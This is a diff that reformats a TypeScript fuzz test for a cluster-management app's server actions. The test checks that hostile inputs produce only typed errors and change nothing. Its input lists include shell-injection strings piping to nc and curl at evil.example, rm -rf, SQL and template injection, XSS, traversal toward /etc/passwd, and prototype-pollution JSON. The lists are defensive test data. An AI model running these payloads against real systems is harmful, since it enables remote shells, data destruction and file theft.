@@ -21,7 +21,9 @@ import { listUsers } from '@/lib/server/services/users';
 import { journalSnapshot, PROD, STAGING, warmUpAccess, worldSnapshot } from './support';
 
 // Before any import is evaluated: the actions' container reads process.env (action-env.ts).
-const { dataDir, savedEnv } = await vi.hoisted(async () => (await import('./action-env')).pointActionsAtSandbox('quorum-fuzz-'));
+const { dataDir, savedEnv } = await vi.hoisted(async () =>
+  (await import('./action-env')).pointActionsAtSandbox('quorum-fuzz-'),
+);
 
 const SEED = Number(process.env.FUZZ_SEED ?? Math.floor(Math.random() * 2 ** 31));
 const RUNS = Number(process.env.FUZZ_RUNS ?? 60);
@@ -31,8 +33,11 @@ const RUNS = Number(process.env.FUZZ_RUNS ?? 60);
 type Action = { name: string; file: string; call: (...args: unknown[]) => Promise<unknown> };
 
 const ACTIONS_DIR = path.resolve('lib/actions');
-const actionFiles = readdirSync(ACTIONS_DIR).filter((f) => f.endsWith('.ts') && !f.endsWith('.test.ts')).sort();
-const isUseServer = (file: string) => /^\s*(?:\/\/[^\n]*\n\s*)*['"]use server['"]/.test(readFileSync(path.join(ACTIONS_DIR, file), 'utf8'));
+const actionFiles = readdirSync(ACTIONS_DIR)
+  .filter((f) => f.endsWith('.ts') && !f.endsWith('.test.ts'))
+  .sort();
+const isUseServer = (file: string) =>
+  /^\s*(?:\/\/[^\n]*\n\s*)*['"]use server['"]/.test(readFileSync(path.join(ACTIONS_DIR, file), 'utf8'));
 const serverFiles = actionFiles.filter(isUseServer);
 const ACTIONS: Action[] = [];
 for (const file of serverFiles) {
@@ -55,12 +60,31 @@ const EXISTING_USER = 'existing@example.test';
  * of it bad at a time. A new action needs an entry here; the first test says so.
  */
 const SHAPES: Record<string, unknown> = {
-  applyChaosAction: { clusterId: PROD_ID, request: { scope: 'replica', name: 'prod-master-zzz', zone: 'us-central1-b', action: { kind: 'kill-etcd', etcd: 'main' } } },
+  applyChaosAction: {
+    clusterId: PROD_ID,
+    request: {
+      scope: 'replica',
+      name: 'prod-master-zzz',
+      zone: 'us-central1-b',
+      action: { kind: 'kill-etcd', etcd: 'main' },
+    },
+  },
   cancelOperationAction: { operationId: '7f1c1e2a-8b5e-4f0e-9a57-1f0d2c9b0a11' },
   // A short password and an email that has an account already (made in beforeAll): no single bad field makes it runnable.
   createUserAction: { email: EXISTING_USER, name: 'fuzz', role: 'viewer', password: 'short' },
-  createClusterAction: { project: 'sandbox-project', masterName: 'fuzz-master', zone: 'europe-west9-z', multizone: true, confirm: 'not-the-name' },
-  previewCreateClusterAction: { project: 'sandbox-project', masterName: 'fuzz-master', zone: 'europe-west9-z', multizone: true },
+  createClusterAction: {
+    project: 'sandbox-project',
+    masterName: 'fuzz-master',
+    zone: 'europe-west9-z',
+    multizone: true,
+    confirm: 'not-the-name',
+  },
+  previewCreateClusterAction: {
+    project: 'sandbox-project',
+    masterName: 'fuzz-master',
+    zone: 'europe-west9-z',
+    multizone: true,
+  },
   previewPlanAction: { clusterId: PROD_ID, intent: { kind: 'add-replica', zone: 'us-central1-b' } },
   readBackupGateFailureAction: { clusterId: PROD_ID, operationId: '7f1c1e2a-8b5e-4f0e-9a57-1f0d2c9b0a11' },
   readChaosStateAction: {},
@@ -68,7 +92,11 @@ const SHAPES: Record<string, unknown> = {
   setUserRoleAction: { userId: 'no-such-user', role: 'viewer' },
   // No account has that id: whatever single field is made bad, nothing is disabled or deleted.
   changeAccountAction: { userId: 'no-such-user', change: 'disable' },
-  startOperationAction: { clusterId: PROD_ID, intent: { kind: 'add-replica', zone: 'us-central1-b' }, confirm: 'not-prod-master' },
+  startOperationAction: {
+    clusterId: PROD_ID,
+    intent: { kind: 'add-replica', zone: 'us-central1-b' },
+    confirm: 'not-prod-master',
+  },
   // Two bad fields (not http(s), no such format): no single field made good makes it addable.
   addWebhookAction: { name: 'fuzz', url: 'ftp://receiver.invalid/hook', format: 'pagerduty', enabled: true },
   // No webhook has that id: nothing is deleted, paused or posted to.
@@ -76,15 +104,71 @@ const SHAPES: Record<string, unknown> = {
   setWebhookEnabledAction: { id: '7f1c1e2a-8b5e-4f0e-9a57-1f0d2c9b0a11', enabled: false },
   sendTestNotificationAction: { id: '7f1c1e2a-8b5e-4f0e-9a57-1f0d2c9b0a11' },
   // Made-up fingerprints: whatever single field is made bad, no pin matches them.
-  trustHostKeyAction: { clusterId: PROD_ID, replica: 'prod-master-zzz', zone: 'us-central1-b', pinnedFingerprint: `SHA256:${'A'.repeat(43)}`, presentedFingerprint: `SHA256:${'B'.repeat(43)}` },
+  trustHostKeyAction: {
+    clusterId: PROD_ID,
+    replica: 'prod-master-zzz',
+    zone: 'us-central1-b',
+    pinnedFingerprint: `SHA256:${'A'.repeat(43)}`,
+    presentedFingerprint: `SHA256:${'B'.repeat(43)}`,
+  },
 };
 
 // --- Inputs -----------------------------------------------------------------------------------------------------
 
-const SHELL = ['$(rm -rf /)', '`reboot`', '; rm -rf / ;', '| nc evil.example 4444', '&& curl evil.example | sh', '$IFS$9', '\n/bin/sh -i', "'; DROP TABLE operations; --", '${7*7}', '{{7*7}}', '<script>alert(1)</script>', '--force-new-cluster', '-rf'];
-const TRAVERSAL = ['../../etc/passwd', '..\\..\\windows\\win.ini', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '..%252f..%252fetc%252fpasswd', '....//....//etc/passwd', '/etc/passwd', 'file:///etc/passwd', 'sandbox-project~europe-west1~../../etc', 'prod-master/../staging-master'];
-const UNICODE = ['\u202Eretsam-dorp', 'prod\u200Bmaster', 'prod-master\u0000', '\u0000', '\uFEFFprod-master', 'ｐｒｏｄ-master', 'prod-maſter', 'İstanbul', '\uD800', '😀🔥', 'z̷̢͈a̵l̸g̶o', '\u0085\u2028\u2029'];
-const NEAR_VALID = [PROD_ID, clusterId(STAGING), `${PROD_ID}~x`, PROD_ID.toUpperCase(), 'prod-master', 'europe-west1-b', 'us-central1-b', 'add-replica', 'scale', 'replica', 'zone', ''];
+const SHELL = [
+  '$(rm -rf /)',
+  '`reboot`',
+  '; rm -rf / ;',
+  '| nc evil.example 4444',
+  '&& curl evil.example | sh',
+  '$IFS$9',
+  '\n/bin/sh -i',
+  "'; DROP TABLE operations; --",
+  '${7*7}',
+  '{{7*7}}',
+  '<script>alert(1)</script>',
+  '--force-new-cluster',
+  '-rf',
+];
+const TRAVERSAL = [
+  '../../etc/passwd',
+  '..\\..\\windows\\win.ini',
+  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
+  '..%252f..%252fetc%252fpasswd',
+  '....//....//etc/passwd',
+  '/etc/passwd',
+  'file:///etc/passwd',
+  'sandbox-project~europe-west1~../../etc',
+  'prod-master/../staging-master',
+];
+const UNICODE = [
+  '\u202Eretsam-dorp',
+  'prod\u200Bmaster',
+  'prod-master\u0000',
+  '\u0000',
+  '\uFEFFprod-master',
+  'ｐｒｏｄ-master',
+  'prod-maſter',
+  'İstanbul',
+  '\uD800',
+  '😀🔥',
+  'z̷̢͈a̵l̸g̶o',
+  '\u0085\u2028\u2029',
+];
+const NEAR_VALID = [
+  PROD_ID,
+  clusterId(STAGING),
+  `${PROD_ID}~x`,
+  PROD_ID.toUpperCase(),
+  'prod-master',
+  'europe-west1-b',
+  'us-central1-b',
+  'add-replica',
+  'scale',
+  'replica',
+  'zone',
+  '',
+];
 const HUGE = ['a', '-', '~', '😀', '../', '$(', '\u0000'].map((c) => c.repeat(100_000));
 
 const hostileString: fc.Arbitrary<string> = fc.oneof(
@@ -97,12 +181,14 @@ const hostileString: fc.Arbitrary<string> = fc.oneof(
 );
 
 /** Objects whose own keys try to reach the prototype: what JSON.parse (and React's reply decoder) can hand over. */
-const pollution: fc.Arbitrary<unknown> = fc.constantFrom(
-  '{"__proto__":{"polluted":"yes","role":"admin","ok":true}}',
-  '{"constructor":{"prototype":{"polluted":"yes"}}}',
-  '{"clusterId":"sandbox-project~europe-west1~prod-master","__proto__":{"intent":{"kind":"scale","replicas":5}}}',
-  '{"__proto__":{"confirm":"prod-master"},"intent":{"__proto__":{"kind":"add-replica"}}}',
-).map((json) => JSON.parse(json) as unknown);
+const pollution: fc.Arbitrary<unknown> = fc
+  .constantFrom(
+    '{"__proto__":{"polluted":"yes","role":"admin","ok":true}}',
+    '{"constructor":{"prototype":{"polluted":"yes"}}}',
+    '{"clusterId":"sandbox-project~europe-west1~prod-master","__proto__":{"intent":{"kind":"scale","replicas":5}}}',
+    '{"__proto__":{"confirm":"prod-master"},"intent":{"__proto__":{"kind":"add-replica"}}}',
+  )
+  .map((json) => JSON.parse(json) as unknown);
 
 const wrongType: fc.Arbitrary<unknown> = fc.oneof(
   fc.constantFrom(null, undefined, NaN, Infinity, -0, true, false, 0, -1, 2 ** 53, Number.MIN_VALUE),
@@ -114,7 +200,16 @@ const wrongType: fc.Arbitrary<unknown> = fc.oneof(
   fc.constant(new Map([['clusterId', PROD_ID]])),
   fc.constant(new Set([PROD_ID])),
   pollution,
-  fc.anything({ maxDepth: 3, withBigInt: true, withDate: true, withMap: true, withSet: true, withNullPrototype: true, withTypedArray: true, withSparseArray: true }),
+  fc.anything({
+    maxDepth: 3,
+    withBigInt: true,
+    withDate: true,
+    withMap: true,
+    withSet: true,
+    withNullPrototype: true,
+    withTypedArray: true,
+    withSparseArray: true,
+  }),
 );
 
 /** Anything that could stand in place of a field's value. */
@@ -146,10 +241,23 @@ function nearlyValid(shape: unknown): fc.Arbitrary<unknown> {
   const oneBad =
     paths.length === 0
       ? fc.constant(shape)
-      : fc.tuple(fc.constantFrom(...paths), badValue, fc.integer({ min: 0, max: 9 })).map(([at, value, n]) => withField(shape, at, value, n < 2));
-  const extraField = fc.tuple(hostileString, badValue).map(([key, value]) => ({ ...(shape as object), [key.slice(0, 64)]: value }));
-  const polluted = pollution.map((p) => JSON.parse(JSON.stringify({ ...(shape as object), ...(p as object) }).replace(/^\{/, '{"__proto__":{"polluted":"yes"},')) as unknown);
-  return fc.oneof({ arbitrary: oneBad, weight: 4 }, { arbitrary: extraField, weight: 1 }, { arbitrary: polluted, weight: 1 });
+      : fc
+          .tuple(fc.constantFrom(...paths), badValue, fc.integer({ min: 0, max: 9 }))
+          .map(([at, value, n]) => withField(shape, at, value, n < 2));
+  const extraField = fc
+    .tuple(hostileString, badValue)
+    .map(([key, value]) => ({ ...(shape as object), [key.slice(0, 64)]: value }));
+  const polluted = pollution.map(
+    (p) =>
+      JSON.parse(
+        JSON.stringify({ ...(shape as object), ...(p as object) }).replace(/^\{/, '{"__proto__":{"polluted":"yes"},'),
+      ) as unknown,
+  );
+  return fc.oneof(
+    { arbitrary: oneBad, weight: 4 },
+    { arbitrary: extraField, weight: 1 },
+    { arbitrary: polluted, weight: 1 },
+  );
 }
 
 // --- What every call must return --------------------------------------------------------------------------------
@@ -158,19 +266,28 @@ const codes: readonly string[] = DOMAIN_ERROR_CODES;
 
 /** A typed result: `{ ok: true, data }` for a read, else `{ ok: false, code, message, fieldErrors? }`. Throws (with the reason) otherwise. */
 function checkResult(action: Action, result: unknown): void {
-  if (result === null || typeof result !== 'object') throw new Error(`${action.name} returned ${typeof result}, not a Result`);
+  if (result === null || typeof result !== 'object')
+    throw new Error(`${action.name} returned ${typeof result}, not a Result`);
   const r = result as Record<string, unknown>;
   if (r.ok === true) {
-    if (!isRead(action.name)) throw new Error(`${action.name} (not a read) succeeded: ${JSON.stringify(r).slice(0, 300)}`);
+    if (!isRead(action.name))
+      throw new Error(`${action.name} (not a read) succeeded: ${JSON.stringify(r).slice(0, 300)}`);
     return;
   }
   if (r.ok !== false) throw new Error(`${action.name} returned no ok flag: ${JSON.stringify(r).slice(0, 300)}`);
-  if (typeof r.code !== 'string' || !codes.includes(r.code)) throw new Error(`${action.name} returned code ${String(r.code)}, not a domain error code`);
-  if (typeof r.message !== 'string' || r.message.trim() === '' || r.message.length > 2_000) throw new Error(`${action.name} returned a bad message (${typeof r.message})`);
-  if (/\n\s+at \S+|\[object Object\]/.test(r.message)) throw new Error(`${action.name} leaked internals in its message: ${r.message.slice(0, 300)}`);
+  if (typeof r.code !== 'string' || !codes.includes(r.code))
+    throw new Error(`${action.name} returned code ${String(r.code)}, not a domain error code`);
+  if (typeof r.message !== 'string' || r.message.trim() === '' || r.message.length > 2_000)
+    throw new Error(`${action.name} returned a bad message (${typeof r.message})`);
+  if (/\n\s+at \S+|\[object Object\]/.test(r.message))
+    throw new Error(`${action.name} leaked internals in its message: ${r.message.slice(0, 300)}`);
   if (r.fieldErrors !== undefined) {
     const fe = r.fieldErrors as Record<string, unknown>;
-    if (typeof fe !== 'object' || fe === null || !Object.values(fe).every((v) => Array.isArray(v) && v.every((m) => typeof m === 'string'))) {
+    if (
+      typeof fe !== 'object' ||
+      fe === null ||
+      !Object.values(fe).every((v) => Array.isArray(v) && v.every((m) => typeof m === 'string'))
+    ) {
       throw new Error(`${action.name} returned malformed fieldErrors`);
     }
   }
@@ -189,14 +306,26 @@ beforeAll(async () => {
   await warmUpAccess(container());
   // A fresh user per call: the per-user rate limit on mutations would otherwise answer most of the fuzz with
   // RateLimited before its input is ever parsed.
-  setCallerResolverForTests(async () => ({ userId: `fuzz-${calls}`, email: 'fuzz@example.test', name: 'fuzz', role: 'admin', source: 'test' }));
+  setCallerResolverForTests(async () => ({
+    userId: `fuzz-${calls}`,
+    email: 'fuzz@example.test',
+    name: 'fuzz',
+    role: 'admin',
+    source: 'test',
+  }));
   // defineAction logs `[action <name>]` before it turns an unexpected exception (a bug) into a generic message.
   const original = console.error.bind(console);
   vi.spyOn(console, 'error').mockImplementation((...args: unknown[]) => {
-    if (typeof args[0] === 'string' && args[0].startsWith('[action ')) bugs.push(`${args[0]} ${String(args[1]).slice(0, 300)}`);
+    if (typeof args[0] === 'string' && args[0].startsWith('[action '))
+      bugs.push(`${args[0]} ${String(args[1]).slice(0, 300)}`);
     else original(...args);
   });
-  const made = await createUserAction({ email: EXISTING_USER, name: 'Existing', role: 'viewer', password: 'a long enough password' });
+  const made = await createUserAction({
+    email: EXISTING_USER,
+    name: 'Existing',
+    role: 'viewer',
+    password: 'a long enough password',
+  });
   expect(made.ok, JSON.stringify(made)).toBe(true);
   console.log(`actions-fuzz: seed ${SEED} (FUZZ_SEED=${SEED} to reproduce), ${RUNS} runs per arbitrary`);
 });
@@ -220,58 +349,67 @@ describe('every server action, fuzzed', () => {
     console.log(`actions-fuzz: ${ACTIONS.length} actions: ${ACTIONS.map((a) => `${a.name} (${a.file})`).join(', ')}`);
     expect(ACTIONS.length).toBeGreaterThan(0);
     // Every *-action.ts but the wrapper they share is a 'use server' file (or Next would not serve it as an action).
-    for (const f of actionFiles.filter((f) => f.endsWith('-action.ts') && f !== 'define-action.ts')) expect(serverFiles, `${f} is a 'use server' file`).toContain(f);
+    for (const f of actionFiles.filter((f) => f.endsWith('-action.ts') && f !== 'define-action.ts'))
+      expect(serverFiles, `${f} is a 'use server' file`).toContain(f);
     const missing = ACTIONS.map((a) => a.name).filter((n) => !(n in SHAPES));
     expect(missing, 'add a well-formed, never-runnable input for each new action to SHAPES').toEqual([]);
   });
 
   const prototypeBefore = Object.getOwnPropertyNames(Object.prototype).sort();
 
-  it.each(ACTIONS.map((a) => [a.name, a] as const))('%s returns typed results only and changes nothing', { timeout: 120_000 }, async (_name, action) => {
-    const c = container();
-    const [world, journal, users] = [await worldSnapshot(c, gce), await journalSnapshot(c.store), await listUsers()];
-    const started = Date.now();
-    const bugsBefore = bugs.length;
+  it.each(ACTIONS.map((a) => [a.name, a] as const))(
+    '%s returns typed results only and changes nothing',
+    { timeout: 120_000 },
+    async (_name, action) => {
+      const c = container();
+      const [world, journal, users] = [await worldSnapshot(c, gce), await journalSnapshot(c.store), await listUsers()];
+      const started = Date.now();
+      const bugsBefore = bugs.length;
 
-    const call = async (input: unknown, withNoArgument = false): Promise<void> => {
-      calls += 1;
-      let result: unknown;
-      try {
-        result = withNoArgument ? await action.call() : await action.call(input);
-      } catch (error) {
-        throw new Error(`${action.name} threw: ${error instanceof Error ? error.message : String(error)}`);
+      const call = async (input: unknown, withNoArgument = false): Promise<void> => {
+        calls += 1;
+        let result: unknown;
+        try {
+          result = withNoArgument ? await action.call() : await action.call(input);
+        } catch (error) {
+          throw new Error(`${action.name} threw: ${error instanceof Error ? error.message : String(error)}`);
+        }
+        checkResult(action, result);
+      };
+
+      await call(undefined, true);
+      await call(SHAPES[action.name]);
+      const arbitraries: Array<[string, fc.Arbitrary<unknown>]> = [
+        ['hostile strings', hostileString],
+        ['wrong types', wrongType],
+        ['one bad field', nearlyValid(SHAPES[action.name] ?? {})],
+      ];
+      for (const [what, arbitrary] of arbitraries) {
+        await fc
+          .assert(
+            fc.asyncProperty(arbitrary, async (input) => call(input)),
+            { numRuns: RUNS, seed: SEED, verbose: 1 },
+          )
+          .catch((error: unknown) => {
+            throw new Error(
+              `${action.name}, ${what} (FUZZ_SEED=${SEED}): ${error instanceof Error ? error.message : String(error)}`,
+            );
+          });
       }
-      checkResult(action, result);
-    };
+      const ms = Date.now() - started;
 
-    await call(undefined, true);
-    await call(SHAPES[action.name]);
-    const arbitraries: Array<[string, fc.Arbitrary<unknown>]> = [
-      ['hostile strings', hostileString],
-      ['wrong types', wrongType],
-      ['one bad field', nearlyValid(SHAPES[action.name] ?? {})],
-    ];
-    for (const [what, arbitrary] of arbitraries) {
-      await fc.assert(
-        fc.asyncProperty(arbitrary, async (input) => call(input)),
-        { numRuns: RUNS, seed: SEED, verbose: 1 },
-      ).catch((error: unknown) => {
-        throw new Error(`${action.name}, ${what} (FUZZ_SEED=${SEED}): ${error instanceof Error ? error.message : String(error)}`);
-      });
-    }
-    const ms = Date.now() - started;
-
-    expect(bugs.slice(bugsBefore), 'inputs that reached defineAction catch-all for bugs').toEqual([]);
-    expect(await worldSnapshot(c, gce)).toEqual(world);
-    const after = await journalSnapshot(c.store);
-    expect(after.operations).toEqual(journal.operations);
-    expect(after.locks).toEqual(journal.locks);
-    expect(after.unfinished).toEqual(journal.unfinished);
-    expect(await listUsers()).toEqual(users);
-    const added = after.audit.filter((a) => !journal.audit.some((b) => b.id === a.id));
-    expect(added.filter((a) => a.outcome !== 'refused')).toEqual([]);
-    expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(prototypeBefore);
-    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
-    console.log(`actions-fuzz: ${action.name}: ${2 + 3 * RUNS} calls in ${ms} ms, ${added.length} refusals audited`);
-  });
+      expect(bugs.slice(bugsBefore), 'inputs that reached defineAction catch-all for bugs').toEqual([]);
+      expect(await worldSnapshot(c, gce)).toEqual(world);
+      const after = await journalSnapshot(c.store);
+      expect(after.operations).toEqual(journal.operations);
+      expect(after.locks).toEqual(journal.locks);
+      expect(after.unfinished).toEqual(journal.unfinished);
+      expect(await listUsers()).toEqual(users);
+      const added = after.audit.filter((a) => !journal.audit.some((b) => b.id === a.id));
+      expect(added.filter((a) => a.outcome !== 'refused')).toEqual([]);
+      expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(prototypeBefore);
+      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
+      console.log(`actions-fuzz: ${action.name}: ${2 + 3 * RUNS} calls in ${ms} ms, ${added.length} refusals audited`);
+    },
+  );
 });
